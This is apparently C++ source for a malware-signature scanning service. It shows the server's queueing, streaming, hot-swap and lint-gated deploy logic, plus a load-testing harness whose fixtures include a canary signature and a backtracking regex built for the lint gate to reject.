  for (const auto& [family, payload] : sim.seed_corpus()) {
    pipeline.seed_family(std::string(kitgen::family_name(family)), 0.55,
                         payload);
  }

  ServeFixture fx;
  const int days = cfg.days < 1 ? 1 : cfg.days;
  for (int day = kitgen::kAug1; day < kitgen::kAug1 + days; ++day) {
    const kitgen::DailyBatch batch = sim.generate_day(day);
    std::vector<std::string> htmls;
    htmls.reserve(batch.samples.size());
    for (const auto& s : batch.samples) htmls.push_back(s.html);
    pipeline.process_day(day, htmls);
    // The serve corpus is the same traffic the signatures were compiled
    // against, in the form requests actually carry: AV-normalized text.
    for (const auto& s : batch.samples) {
      if (cfg.max_docs != 0 && fx.docs.size() >= cfg.max_docs) break;
      fx.docs.push_back(
          CorpusDoc{text::normalize_raw(s.html), s.truth != kitgen::Truth::Benign});
    }
  }

  fx.signatures = pipeline.signatures();
  {
    std::ostringstream os;
    pipeline.export_artifact(os);
    fx.artifact = os.str();
  }
  {
    // A real swap target: the same deployment plus one clean pure-literal
    // canary that no corpus document contains — verdicts on existing
    // traffic are unchanged, but the accepted epoch is observable.
    std::vector<core::DeployedSignature> sigs = fx.signatures;
    core::DeployedSignature canary;
    canary.name = "KZ.Canary.1";
    canary.family = "Canary";
    canary.issued_day = kitgen::kAug1 + days;
    canary.pattern = "kzservecanaryliteralxq";
    canary.token_length = canary.pattern.size();
    sigs.push_back(std::move(canary));
    std::ostringstream os;
    core::save_artifact(os, sigs);
    fx.swap_artifact = os.str();
  }
  {
    // A swap the lint gate must refuse: nested unbounded repetition over
    // overlapping byte sets — the classic catastrophic-backtracking bomb
    // (analyze::Check::kBacktrackingBomb, error severity).
    std::vector<core::DeployedSignature> sigs = fx.signatures;
    core::DeployedSignature bomb;
    bomb.name = "KZ.Bomb.1";
    bomb.family = "Bomb";
    bomb.issued_day = kitgen::kAug1 + days;
    bomb.pattern = "([a-z]+)+qzvwxk";
    bomb.token_length = 6;
    sigs.push_back(std::move(bomb));
    std::ostringstream os;
    core::save_artifact(os, sigs);
    fx.bomb_artifact = os.str();
  }
  {
    std::istringstream is(fx.artifact);
    fx.database = std::make_shared<const engine::Database>(
        engine::Database::from_artifact(is));
  }
  return fx;
}

// ------------------------------- load run -------------------------------

namespace {

// One client's tallies plus its private histogram; merged after join.
struct ClientState {
  support::LatencyHistogram latency;
  std::uint64_t completed = 0;
  std::uint64_t one_shot = 0;
  std::uint64_t stream = 0;
  std::uint64_t matched = 0;
  std::uint64_t shed = 0;
  std::uint64_t failed = 0;
  std::uint64_t deadline_expired = 0;
};

// Rendezvous for one closed-loop request: the client blocks here until the
// worker's completion callback lands.
struct Rendezvous {
  std::mutex mu;
  std::condition_variable cv;
  bool done = false;
  ScanResponse resp;
};

void client_loop(ScanServer& server, const std::vector<CorpusDoc>& docs,
                 const LoadConfig& cfg, std::size_t client_index,
                 const std::atomic<bool>& stop, ClientState& state) {
  Rng rng(cfg.seed * 0x9E3779B9u + client_index * 7919u + 1);
  std::size_t doc_i = (client_index * 131) % docs.size();
  while (!stop.load(std::memory_order_acquire)) {
    const CorpusDoc& doc = docs[doc_i];
    doc_i = (doc_i + 1) % docs.size();
    const bool as_stream = rng.chance(cfg.stream_fraction);

    auto rendezvous = std::make_shared<Rendezvous>();
    ResponseFn done = [rendezvous](ScanResponse resp) {
      std::lock_guard<std::mutex> lock(rendezvous->mu);
      rendezvous->resp = std::move(resp);
      rendezvous->done = true;
      rendezvous->cv.notify_one();
    };

    const auto start = Clock::now();
    RequestStatus admitted;
    if (as_stream) {
      ScanServer::Stream s = server.open_stream(cfg.limits);
      const std::size_t chunk = cfg.chunk_bytes == 0 ? 4096 : cfg.chunk_bytes;
      bool aborted = false;
      for (std::size_t off = 0; off < doc.text.size(); off += chunk) {
        const RequestStatus rs =
            s.feed(doc.text.substr(off, chunk));
        if (rs != RequestStatus::kOk) {
          // The session is abandoned mid-feed; count the whole request
          // once, by how the edge disposed of it.
          if (rs == RequestStatus::kOverloaded) {
            ++state.shed;
          } else {
            ++state.failed;
          }
          aborted = true;
          break;
        }
      }
      if (aborted) continue;
      admitted = s.finish(done);
    } else {
      admitted = server.submit(doc.text, cfg.limits, done);
    }
    if (admitted == RequestStatus::kOverloaded) {
      ++state.shed;
      continue;
    }
    if (admitted != RequestStatus::kOk) {
      ++state.failed;
      continue;
    }

    ScanResponse resp;
    {
      std::unique_lock<std::mutex> lock(rendezvous->mu);
      rendezvous->cv.wait(lock, [&] { return rendezvous->done; });
      resp = std::move(rendezvous->resp);
    }
    const auto elapsed = std::chrono::duration_cast<std::chrono::nanoseconds>(
        Clock::now() - start);
    if (resp.status != RequestStatus::kOk) {
      // An accepted request must complete kOk — a shed-on-pop (stale) or
      // any other disposition is a contract violation for this harness
      // unless the run configured age shedding deliberately; those runs
      // read ServerStats instead.
      if (resp.status == RequestStatus::kOverloaded) {
        ++state.shed;
      } else {
        ++state.failed;
      }
      continue;
    }
    state.latency.record(static_cast<std::uint64_t>(elapsed.count()));
    ++state.completed;
    if (as_stream) {
      ++state.stream;
    } else {
      ++state.one_shot;
    }
    if (resp.matched) ++state.matched;
    if (resp.outcome.status == engine::ScanStatus::kDeadlineExpired) {
      ++state.deadline_expired;
    }
  }
}

}  // namespace

LoadReport run_load(ScanServer& server, const std::vector<CorpusDoc>& docs,
                    const LoadConfig& cfg) {
  LoadReport report;
  if (docs.empty() || cfg.clients == 0) return report;

  std::atomic<bool> stop{false};
  std::vector<ClientState> states(cfg.clients);
  std::vector<std::thread> clients;
  clients.reserve(cfg.clients);

  const auto t0 = Clock::now();
  for (std::size_t i = 0; i < cfg.clients; ++i) {
    clients.emplace_back([&, i] {
      client_loop(server, docs, cfg, i, stop, states[i]);
    });
  }

  const auto total = cfg.duration.count() > 0 ? cfg.duration
                                              : std::chrono::milliseconds(1);
  if (cfg.mid_run) {
    const double at =
        cfg.mid_run_at < 0.0 ? 0.0 : (cfg.mid_run_at > 1.0 ? 1.0 : cfg.mid_run_at);
    const auto before = std::chrono::milliseconds(
        static_cast<std::int64_t>(static_cast<double>(total.count()) * at));
    std::this_thread::sleep_for(before);
    cfg.mid_run();
    std::this_thread::sleep_for(total - before);
  } else {
    std::this_thread::sleep_for(total);
  }
  stop.store(true, std::memory_order_release);
  for (auto& c : clients) c.join();
  // In-flight requests of joined clients have all completed (closed loop:
  // a client only exits its loop between requests), so the report is
  // complete without a server drain.
  report.seconds =
      std::chrono::duration<double>(Clock::now() - t0).count();

  for (const ClientState& s : states) {
    report.latency.merge(s.latency);
    report.completed += s.completed;
    report.one_shot += s.one_shot;
    report.stream += s.stream;
    report.matched += s.matched;
    report.shed += s.shed;
    report.failed += s.failed;
    report.deadline_expired += s.deadline_expired;
  }
  return report;
}

}  // namespace kizzle::serve
