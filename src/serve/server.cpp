#include "serve/server.h"

#include <sys/stat.h>

#include <condition_variable>
#include <fstream>
#include <sstream>
#include <utility>

#include "analyze/analyze.h"
#include "core/sigdb.h"

namespace kizzle::serve {

using Clock = std::chrono::steady_clock;

const char* request_status_name(RequestStatus s) {
  switch (s) {
    case RequestStatus::kOk:
      return "ok";
    case RequestStatus::kOverloaded:
      return "overloaded";
    case RequestStatus::kShuttingDown:
      return "shutting-down";
  }
  return "?";
}

// Atomic mirror of ServerStats: workers and producers bump these with
// relaxed increments (counters, not synchronization); stats() snapshots.
struct ScanServer::Counters {
  std::atomic<std::uint64_t> submitted{0};
  std::atomic<std::uint64_t> completed{0};
  std::atomic<std::uint64_t> matched{0};
  std::atomic<std::uint64_t> shed_queue_full{0};
  std::atomic<std::uint64_t> shed_stale{0};
  std::atomic<std::uint64_t> rejected_shutdown{0};
  std::atomic<std::uint64_t> deadline_expired{0};
  std::atomic<std::uint64_t> streams_opened{0};
  std::atomic<std::uint64_t> streams_completed{0};
  std::atomic<std::uint64_t> batches{0};
  std::atomic<std::uint64_t> batched_jobs{0};
  std::atomic<std::uint64_t> epoch_swaps{0};
  std::atomic<std::uint64_t> swaps_rejected{0};
};

namespace {
inline void bump(std::atomic<std::uint64_t>& c, std::uint64_t by = 1) {
  c.fetch_add(by, std::memory_order_relaxed);
}

// First error message of a non-clean lint report, for SwapResult::reason.
std::string lint_reason(const analyze::Report& report) {
  for (const auto& f : report.findings) {
    if (f.severity == analyze::Severity::kError) {
      std::string out = "lint: [";
      out += analyze::check_name(f.check);
      out += "] ";
      if (!f.signature.empty()) {
        out += f.signature;
        out += ": ";
      }
      out += f.message;
      return out;
    }
  }
  return "lint: error-severity findings";
}
}  // namespace

// ------------------------------- session --------------------------------

// One chunked-stream session: an actor whose feed()/finish() ops are
// serialized through `pending` + the single `scheduled` queue token. The
// epoch is pinned at open (db/epoch/limits are set once by open_stream and
// read-only afterwards); the engine stream and its dedicated scratch are
// materialized lazily by the first op a worker processes and torn down at
// finish, so an idle-opened session costs nothing but the struct.
struct ScanServer::Stream::Session {
  enum class OpKind : std::uint8_t { kFeed, kFinish };
  struct Op {
    OpKind kind = OpKind::kFeed;
    std::string chunk;
    ResponseFn done;  // kFinish only
  };

  ScanServer* server = nullptr;

  // Pinned at open_stream(), immutable afterwards.
  std::shared_ptr<const engine::Database> db;
  std::uint64_t epoch = 0;
  engine::ScanLimits limits;

  // Producer/worker shared state.
  std::mutex mu;
  std::deque<Op> pending;
  bool scheduled = false;    // a queue token for this session is in flight
  bool finish_seen = false;  // finish() admitted; no further ops

  // Worker-only execution state (serialized by the actor token).
  std::optional<engine::ScratchPool::Handle> scratch;
  std::optional<engine::Stream> stream;
  bool opened = false;
};

RequestStatus ScanServer::Stream::feed(std::string normalized_chunk) {
  if (!session_ || session_->server == nullptr) {
    return RequestStatus::kShuttingDown;
  }
  return session_->server->enqueue_op(session_, /*is_finish=*/false,
                                      std::move(normalized_chunk), nullptr);
}

RequestStatus ScanServer::Stream::finish(ResponseFn done) {
  if (!session_ || session_->server == nullptr || !done) {
    return RequestStatus::kShuttingDown;
  }
  return session_->server->enqueue_op(session_, /*is_finish=*/true,
                                      std::string(), std::move(done));
}

std::uint64_t ScanServer::Stream::epoch() const {
  return session_ ? session_->epoch : 0;
}

// ------------------------------- server ---------------------------------

ScanServer::ScanServer(std::shared_ptr<const engine::Database> db,
                       ServerConfig cfg)
    : cfg_(cfg),
      queue_(cfg.queue_capacity),
      db_(std::move(db)),
      counters_(std::make_unique<Counters>()) {
  if (!db_) db_ = std::make_shared<const engine::Database>();
  std::size_t n = cfg_.workers;
  if (n == 0) {
    n = std::thread::hardware_concurrency();
    if (n == 0) n = 1;
  }
  if (cfg_.batch_max == 0) cfg_.batch_max = 1;
  workers_.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ScanServer::~ScanServer() { stop(); }

engine::ScanLimits ScanServer::effective_limits(
    const engine::ScanLimits& requested, Clock::time_point enqueued) const {
  // Re-anchor a relative wall budget at *submit* time: the absolute
  // deadline the workers see already includes whatever the request spends
  // queued, so backlog cannot silently extend a request's budget.
  engine::ScanLimits limits = requested;
  limits.deadline = requested.effective_deadline(enqueued);
  return limits;
}

RequestStatus ScanServer::submit(std::string normalized_text, ResponseFn done) {
  return submit(std::move(normalized_text), cfg_.default_limits,
                std::move(done));
}

RequestStatus ScanServer::submit(std::string normalized_text,
                                 const engine::ScanLimits& limits,
                                 ResponseFn done) {
  if (!done) return RequestStatus::kShuttingDown;
  if (stopping_.load(std::memory_order_acquire)) {
    bump(counters_->rejected_shutdown);
    return RequestStatus::kShuttingDown;
  }
  const auto now = Clock::now();
  auto req = std::make_unique<OneShot>();
  req->text = std::move(normalized_text);
  req->limits = effective_limits(limits, now);
  req->enqueued = now;
  req->done = std::move(done);

  job_admitted();
  Job job;
  job.one_shot = std::move(req);
  if (!queue_.try_push(job)) {
    job_done();
    if (stopping_.load(std::memory_order_acquire)) {
      bump(counters_->rejected_shutdown);
      return RequestStatus::kShuttingDown;
    }
    bump(counters_->shed_queue_full);
    return RequestStatus::kOverloaded;
  }
  bump(counters_->submitted);
  return RequestStatus::kOk;
}

ScanServer::Stream ScanServer::open_stream() {
  return open_stream(cfg_.default_limits);
}

ScanServer::Stream ScanServer::open_stream(const engine::ScanLimits& limits) {
  if (stopping_.load(std::memory_order_acquire)) {
    bump(counters_->rejected_shutdown);
    return Stream();
  }
  auto session = std::make_shared<Stream::Session>();
  session->server = this;
  {
    // Epoch pin: db and epoch are read under the same lock that deploys
    // write them, so a session can never see a database/epoch mismatch.
    std::lock_guard<std::mutex> lock(epoch_mu_);
    session->db = db_;
    session->epoch = epoch_.load(std::memory_order_relaxed);
  }
  session->limits = effective_limits(limits, Clock::now());
  bump(counters_->streams_opened);
  return Stream(std::move(session));
}

RequestStatus ScanServer::enqueue_op(
    const std::shared_ptr<Stream::Session>& session, bool is_finish,
    std::string chunk, ResponseFn done) {
  Stream::Session::Op op;
  op.kind = is_finish ? Stream::Session::OpKind::kFinish
                      : Stream::Session::OpKind::kFeed;
  op.chunk = std::move(chunk);
  op.done = std::move(done);
  std::lock_guard<std::mutex> lock(session->mu);
  if (stopping_.load(std::memory_order_acquire) || session->finish_seen) {
    bump(counters_->rejected_shutdown);
    return RequestStatus::kShuttingDown;
  }
  if (session->pending.size() >= cfg_.stream_pending_max) {
    bump(counters_->shed_queue_full);
    return RequestStatus::kOverloaded;
  }
  // Secure the actor token before admitting the op: at most one token per
  // session is ever queued, so one worker at a time drains the session's
  // ops in arrival order. (Lock order session->mu then queue lock; workers
  // take them disjointly, so no cycle.)
  if (!session->scheduled) {
    Job job;
    job.session = session;
    if (!queue_.try_push(job)) {
      if (stopping_.load(std::memory_order_acquire)) {
        bump(counters_->rejected_shutdown);
        return RequestStatus::kShuttingDown;
      }
      bump(counters_->shed_queue_full);
      return RequestStatus::kOverloaded;
    }
    session->scheduled = true;
  }
  if (is_finish) session->finish_seen = true;
  session->pending.push_back(std::move(op));
  job_admitted();
  return RequestStatus::kOk;
}

// ------------------------------- workers --------------------------------

void ScanServer::worker_loop() {
  engine::ScratchPool::Handle scratch = scratches_.acquire();
  std::vector<Job> batch;
  batch.reserve(cfg_.batch_max);
  for (;;) {
    batch.clear();
    const std::size_t n = queue_.pop_batch(batch, cfg_.batch_max);
    if (n == 0) return;  // closed and drained
    bump(counters_->batches);
    bump(counters_->batched_jobs, n);
    // One epoch resolution per batch: every one-shot in the batch scans
    // the same snapshot, and the shared_ptr copy is paid once, not per
    // request. (Sessions use their own pinned epoch instead.)
    std::shared_ptr<const engine::Database> db;
    std::uint64_t db_epoch = 0;
    {
      std::lock_guard<std::mutex> lock(epoch_mu_);
      db = db_;
      db_epoch = epoch_.load(std::memory_order_relaxed);
    }
    for (Job& job : batch) {
      if (job.one_shot) {
        run_one_shot(*job.one_shot, db, db_epoch, *scratch);
        job_done();
      } else if (job.session) {
        run_session(job.session);
      }
    }
  }
}

void ScanServer::run_one_shot(OneShot& req,
                              const std::shared_ptr<const engine::Database>& db,
                              std::uint64_t db_epoch,
                              engine::Scratch& scratch) {
  ScanResponse resp;
  resp.epoch = db_epoch;
  const auto now = Clock::now();
  // Stale shed: under a backlog the oldest work is the first to drop —
  // its submitter has usually given up already, and scanning it anyway
  // would make every request behind it later too.
  if (cfg_.max_queue_age.count() > 0 &&
      now - req.enqueued > cfg_.max_queue_age) {
    resp.status = RequestStatus::kOverloaded;
    bump(counters_->shed_stale);
    req.done(std::move(resp));
    return;
  }
  // A request whose deadline passed while it queued is answered without
  // scanning: the outcome is the same kDeadlineExpired the engine would
  // report, minus the wasted prefilter work.
  const auto deadline = req.limits.effective_deadline(req.enqueued);
  if (deadline != Clock::time_point{} && now >= deadline) {
    resp.status = RequestStatus::kOk;
    resp.outcome.status = engine::ScanStatus::kDeadlineExpired;
    resp.outcome.limited_stage = engine::ScanStage::kInput;
    bump(counters_->completed);
    bump(counters_->deadline_expired);
    req.done(std::move(resp));
    return;
  }
  scratch.set_limits(req.limits);
  engine::ScanOutcome outcome;
  const auto event = engine::first_match(*db, req.text, scratch, &outcome);
  resp.status = RequestStatus::kOk;
  resp.outcome = outcome;
  if (event.has_value()) {
    resp.matched = true;
    resp.sig_index = event->sig_index;
    resp.signature = std::string(event->name);
    resp.match_begin = event->begin;
    resp.match_end = event->end;
    bump(counters_->matched);
  }
  bump(counters_->completed);
  if (outcome.status == engine::ScanStatus::kDeadlineExpired) {
    bump(counters_->deadline_expired);
  }
  req.done(std::move(resp));
}

void ScanServer::run_session(const std::shared_ptr<Stream::Session>& session) {
  // Actor body: drain every op queued on the session, then give the token
  // back. `scheduled` stays true for the whole drain, so no second worker
  // can interleave — ops execute in exact arrival order.
  for (;;) {
    Stream::Session::Op op;
    {
      std::lock_guard<std::mutex> lock(session->mu);
      if (session->pending.empty()) {
        session->scheduled = false;
        return;
      }
      op = std::move(session->pending.front());
      session->pending.pop_front();
    }
    if (!session->opened) {
      // Lazy materialization on first op: a dedicated scratch for the
      // session's lifetime (streams accumulate state across ops, so they
      // cannot share the worker's batch scratch).
      session->scratch.emplace(scratches_.acquire());
      (*session->scratch)->set_limits(session->limits);
      session->stream.emplace(
          engine::open_stream(*session->db, **session->scratch));
      session->opened = true;
    }
    if (op.kind == Stream::Session::OpKind::kFeed) {
      if (session->stream.has_value()) session->stream->feed(op.chunk);
    } else {
      ScanResponse resp;
      resp.epoch = session->epoch;
      resp.status = RequestStatus::kOk;
      if (session->stream.has_value()) {
        engine::ScanOutcome outcome;
        const auto event = session->stream->finish_first(&outcome);
        resp.outcome = outcome;
        if (event.has_value()) {
          resp.matched = true;
          resp.sig_index = event->sig_index;
          resp.signature = std::string(event->name);
          resp.match_begin = event->begin;
          resp.match_end = event->end;
          bump(counters_->matched);
        }
        if (outcome.status == engine::ScanStatus::kDeadlineExpired) {
          bump(counters_->deadline_expired);
        }
      }
      bump(counters_->completed);
      bump(counters_->streams_completed);
      // Retire the session's scan state (scratch back to the pool, pinned
      // database released — the epoch can now be reclaimed if this was its
      // last reader). The session struct itself lives as long as the
      // client handle.
      session->stream.reset();
      session->scratch.reset();
      session->db.reset();
      op.done(std::move(resp));
    }
    job_done();
  }
}

// -------------------------------- epochs --------------------------------

std::shared_ptr<const engine::Database> ScanServer::database() const {
  std::lock_guard<std::mutex> lock(epoch_mu_);
  return db_;
}

ScanServer::SwapResult ScanServer::publish(
    std::shared_ptr<const engine::Database> db) {
  SwapResult result;
  result.accepted = true;
  {
    std::lock_guard<std::mutex> lock(epoch_mu_);
    db_ = std::move(db);
    result.epoch = epoch_.fetch_add(1, std::memory_order_acq_rel) + 1;
  }
  bump(counters_->epoch_swaps);
  return result;
}

ScanServer::SwapResult ScanServer::deploy(
    std::shared_ptr<const engine::Database> db) {
  if (!db) {
    bump(counters_->swaps_rejected);
    return {false, epoch(), "null database"};
  }
  if (cfg_.lint_on_swap) {
    const analyze::Report report = analyze::analyze_database(*db);
    if (!report.clean()) {
      bump(counters_->swaps_rejected);
      return {false, epoch(), lint_reason(report)};
    }
  }
  return publish(std::move(db));
}

ScanServer::SwapResult ScanServer::deploy_artifact(std::istream& artifact) {
  // The artifact is consumed twice (lint-verify, then load), so buffer it
  // once — deploys are rare and artifacts are small next to scan traffic.
  std::string bytes{std::istreambuf_iterator<char>(artifact),
                    std::istreambuf_iterator<char>()};
  try {
    if (cfg_.lint_on_swap) {
      // The full `kizzle lint` gate, including recompile-and-compare
      // verification of the shipped prefilter tables: a bad release is
      // refused here, at the last hop, even if every upstream gate was
      // skipped.
      std::istringstream lint_in(bytes);
      const analyze::Report report = analyze::analyze_artifact(lint_in);
      if (!report.clean()) {
        bump(counters_->swaps_rejected);
        return {false, epoch(), lint_reason(report)};
      }
    }
    std::istringstream load_in(bytes);
    auto db = std::make_shared<engine::Database>(
        engine::Database::from_artifact(load_in));
    return publish(std::move(db));
  } catch (const std::exception& e) {
    // Malformed bundles throw the typed loader taxonomy; at the serving
    // edge that is a refused deploy, not a crashed server.
    bump(counters_->swaps_rejected);
    return {false, epoch(), e.what()};
  }
}

ScanServer::SwapResult ScanServer::deploy_delta(std::istream& delta_stream) {
  try {
    const core::DeltaArtifact delta = core::load_delta(delta_stream);
    // The base the delta is lint-checked against and extended from. The
    // epoch may move while we compile the extension (scans keep flowing);
    // the publish step below re-checks it.
    const std::shared_ptr<const engine::Database> base = database();
    if (cfg_.lint_on_swap) {
      // The delta gate: lineage fingerprints, retired-index sanity, and
      // the full candidate-grade analysis of every added signature
      // against the live set.
      const analyze::Report report = analyze::analyze_delta(*base, delta);
      if (!report.clean()) {
        bump(counters_->swaps_rejected);
        return {false, epoch(), lint_reason(report)};
      }
    }
    // Compile only the added signatures; extend() re-verifies both
    // lineage fingerprints even with the lint gate off.
    auto next = std::make_shared<engine::Database>(base->extend(delta));
    SwapResult result;
    {
      std::lock_guard<std::mutex> lock(epoch_mu_);
      if (db_ != base) {
        // A full deploy (or another delta) won the race: applying this
        // delta now would replace that epoch with one derived from an
        // older base. Refuse; the distributor re-issues against the new
        // lineage.
        bump(counters_->swaps_rejected);
        return {false, epoch(), "stale base: serving epoch changed while "
                                "the delta was being applied"};
      }
      db_ = std::move(next);
      result.accepted = true;
      result.epoch = epoch_.fetch_add(1, std::memory_order_acq_rel) + 1;
    }
    bump(counters_->epoch_swaps);
    return result;
  } catch (const std::exception& e) {
    // Corrupt bytes, wrong lineage, out-of-range retire: all typed
    // refusals. The serving epoch is untouched — "rollback" is never
    // having left.
    bump(counters_->swaps_rejected);
    return {false, epoch(), e.what()};
  }
}

// ------------------------------ lifecycle -------------------------------

void ScanServer::job_admitted() {
  std::lock_guard<std::mutex> lock(drain_mu_);
  ++in_flight_;
}

void ScanServer::job_done() {
  std::lock_guard<std::mutex> lock(drain_mu_);
  --in_flight_;
  if (in_flight_ == 0) drain_cv_.notify_all();
}

void ScanServer::drain() {
  std::unique_lock<std::mutex> lock(drain_mu_);
  drain_cv_.wait(lock, [this] { return in_flight_ == 0; });
}

void ScanServer::stop() {
  bool expected = false;
  if (!stopping_.compare_exchange_strong(expected, true,
                                         std::memory_order_acq_rel)) {
    // Second caller (e.g. the destructor after an explicit stop()): wait
    // for the first stop to have joined, which it has by the time the
    // workers vector is empty.
    for (auto& w : workers_) {
      if (w.joinable()) w.join();
    }
    return;
  }
  // Admission is off (stopping_); everything already accepted still runs:
  // drain to zero in-flight, then close the queue so workers exit.
  drain();
  queue_.close();
  for (auto& w : workers_) {
    if (w.joinable()) w.join();
  }
}

ServerStats ScanServer::stats() const {
  const Counters& c = *counters_;
  ServerStats s;
  s.submitted = c.submitted.load(std::memory_order_relaxed);
  s.completed = c.completed.load(std::memory_order_relaxed);
  s.matched = c.matched.load(std::memory_order_relaxed);
  s.shed_queue_full = c.shed_queue_full.load(std::memory_order_relaxed);
  s.shed_stale = c.shed_stale.load(std::memory_order_relaxed);
  s.rejected_shutdown = c.rejected_shutdown.load(std::memory_order_relaxed);
  s.deadline_expired = c.deadline_expired.load(std::memory_order_relaxed);
  s.streams_opened = c.streams_opened.load(std::memory_order_relaxed);
  s.streams_completed = c.streams_completed.load(std::memory_order_relaxed);
  s.batches = c.batches.load(std::memory_order_relaxed);
  s.batched_jobs = c.batched_jobs.load(std::memory_order_relaxed);
  s.epoch_swaps = c.epoch_swaps.load(std::memory_order_relaxed);
  s.swaps_rejected = c.swaps_rejected.load(std::memory_order_relaxed);
  return s;
}

// ------------------------------- watcher --------------------------------

ArtifactWatcher::ArtifactWatcher(ScanServer& server, std::string path,
                                 std::chrono::milliseconds poll_interval,
                                 std::chrono::milliseconds settle)
    : server_(server),
      path_(std::move(path)),
      poll_(poll_interval.count() > 0 ? poll_interval
                                      : std::chrono::milliseconds(50)),
      // Default debounce: half a poll period — long enough for a rename
      // or a fast copy to complete, short enough that a real release
      // deploys within the next poll.
      settle_(settle.count() >= 0 ? settle : poll_ / 2) {
  thread_ = std::thread([this] { loop(); });
}

ArtifactWatcher::~ArtifactWatcher() { stop(); }

void ArtifactWatcher::stop() {
  stopping_.store(true, std::memory_order_release);
  cv_.notify_all();
  if (thread_.joinable()) thread_.join();
}

ArtifactWatcher::Stats ArtifactWatcher::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

void ArtifactWatcher::loop() {
  std::unique_lock<std::mutex> lock(mu_);
  for (;;) {
    cv_.wait_for(lock, poll_, [this] {
      return stopping_.load(std::memory_order_acquire);
    });
    if (stopping_.load(std::memory_order_acquire)) return;
    lock.unlock();
    const bool attempted = try_deploy();
    lock.lock();
    (void)attempted;
  }
}

namespace {

// (mtime, size) identity at the finest mtime resolution the platform
// exposes: with whole-second timestamps a writer that appends twice
// within one second looks unchanged, which is exactly the window the
// debounce exists to close.
bool stat_identity(const char* path, std::int64_t& mtime_ns,
                   std::uint64_t& size) {
  struct ::stat st = {};
  if (::stat(path, &st) != 0) return false;
#if defined(__APPLE__)
  mtime_ns = static_cast<std::int64_t>(st.st_mtimespec.tv_sec) * 1000000000 +
             st.st_mtimespec.tv_nsec;
#elif defined(__unix__)
  mtime_ns = static_cast<std::int64_t>(st.st_mtim.tv_sec) * 1000000000 +
             st.st_mtim.tv_nsec;
#else
  mtime_ns = static_cast<std::int64_t>(st.st_mtime) * 1000000000;
#endif
  size = static_cast<std::uint64_t>(st.st_size);
  return true;
}

}  // namespace

bool ArtifactWatcher::try_deploy() {
  std::int64_t mtime = 0;
  std::uint64_t size = 0;
  if (!stat_identity(path_.c_str(), mtime, size)) return false;
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (primed_ && mtime == seen_mtime_ && size == seen_size_) return false;
    if (!primed_) {
      // First observation primes the identity without deploying — the
      // server was started from this very artifact.
      seen_mtime_ = mtime;
      seen_size_ = size;
      primed_ = true;
      return false;
    }
  }
  // Debounce: give the writer a settle window, then re-stat. An identity
  // still in motion is a partial write — skip it WITHOUT recording it as
  // seen, so the next poll picks the file up again once it stops moving.
  if (settle_.count() > 0) {
    {
      std::unique_lock<std::mutex> lock(mu_);
      cv_.wait_for(lock, settle_, [this] {
        return stopping_.load(std::memory_order_acquire);
      });
    }
    if (stopping_.load(std::memory_order_acquire)) return false;
    std::int64_t mtime2 = 0;
    std::uint64_t size2 = 0;
    if (!stat_identity(path_.c_str(), mtime2, size2)) return false;
    if (mtime2 != mtime || size2 != size) return false;  // still changing
  }
  {
    // Remember the attempted identity: a settled file state that fails
    // verification is not re-tried until the file changes again.
    std::lock_guard<std::mutex> lock(mu_);
    seen_mtime_ = mtime;
    seen_size_ = size;
  }
  std::ifstream in(path_, std::ios::binary);
  if (!in) return false;
  // Route on the leading magic: deltas hot-apply through the incremental
  // path, anything else takes the full-artifact deploy (whose loader
  // rejects junk with a typed refusal).
  char magic[8] = {};
  in.read(magic, sizeof magic);
  const bool is_delta =
      in.gcount() == sizeof magic &&
      std::string_view(magic, sizeof magic) == core::kDeltaMagic;
  in.clear();
  in.seekg(0);
  const ScanServer::SwapResult result =
      is_delta ? server_.deploy_delta(in) : server_.deploy_artifact(in);
  std::lock_guard<std::mutex> lock(mu_);
  if (result.accepted) {
    ++stats_.swaps;
  } else {
    ++stats_.rejected;
  }
  return true;
}

}  // namespace kizzle::serve
