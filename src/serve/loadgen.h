// Load generator + soak harness for the scan service.
//
// A serving claim ("hot swap drops nothing", "overload sheds typed") is
// only testable under traffic, and a latency claim is only meaningful as a
// distribution. This module supplies both: a deterministic corpus replayed
// as mixed one-shot/chunked-stream traffic by closed-loop clients, with
// per-request latency recorded into HDR histograms (support/histogram.h)
// and merged into one LoadReport. It is the shared engine behind
// `kizzle serve` (tools/kizzle_cli.cpp), the serve benchmark
// (bench/bench_serve.cpp → BENCH_serve.json), and the serve soak tests.
//
// Clients are *closed-loop*: each thread submits one request, waits for
// its completion, records the submit→completion latency, then moves to the
// next document. Concurrency is therefore exactly the client count, and a
// slow server shows up as latency, not as an unbounded backlog — the
// backlog experiments instead use ScanServer's own queue bounds (see the
// overload tests).
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "core/pipeline.h"
#include "engine/engine.h"
#include "serve/server.h"
#include "support/histogram.h"

namespace kizzle::serve {

// One replayable document: AV-normalized scan text (the form every serve
// request carries) plus its ground truth for sanity checks.
struct CorpusDoc {
  std::string text;
  bool malicious = false;
};

// Everything a serve experiment needs, generated deterministically from
// one seed: a kitgen day's traffic normalized for scanning, the signature
// database the pipeline deployed against that traffic, and artifact bytes
// for exercising the hot-swap path.
struct ServeFixture {
  std::vector<CorpusDoc> docs;
  std::shared_ptr<const engine::Database> database;
  std::vector<core::DeployedSignature> signatures;
  // `.kpf` bytes of `database` exactly (deploying it is a valid no-op
  // swap), of database + one extra clean canary signature (a real swap
  // target), and of database + a catastrophic-backtracking signature
  // (a swap the lint gate must refuse).
  std::string artifact;
  std::string swap_artifact;
  std::string bomb_artifact;
};

struct FixtureConfig {
  std::uint64_t seed = 20140801;
  int days = 1;               // pipeline days to run before exporting
  double volume_scale = 0.2;  // kitgen stream scale (keep runs short)
  std::size_t max_docs = 0;   // 0 = keep the whole day's samples
};

ServeFixture make_fixture(const FixtureConfig& cfg = {});

// ------------------------------ load run --------------------------------

struct LoadConfig {
  std::size_t clients = 4;  // closed-loop client threads
  std::chrono::milliseconds duration{1000};
  double stream_fraction = 0.3;   // requests sent as chunked streams
  std::size_t chunk_bytes = 4096; // stream chunk size
  std::uint64_t seed = 1;
  engine::ScanLimits limits;      // per-request envelope
  // Invoked once from the coordinator thread at `mid_run_at` of the run —
  // the soak harness triggers its hot swap here, in the middle of live
  // traffic, which is the only place a swap bug can show.
  std::function<void()> mid_run;
  double mid_run_at = 0.5;
};

struct LoadReport {
  double seconds = 0.0;
  std::uint64_t completed = 0;  // responses received with RequestStatus::kOk
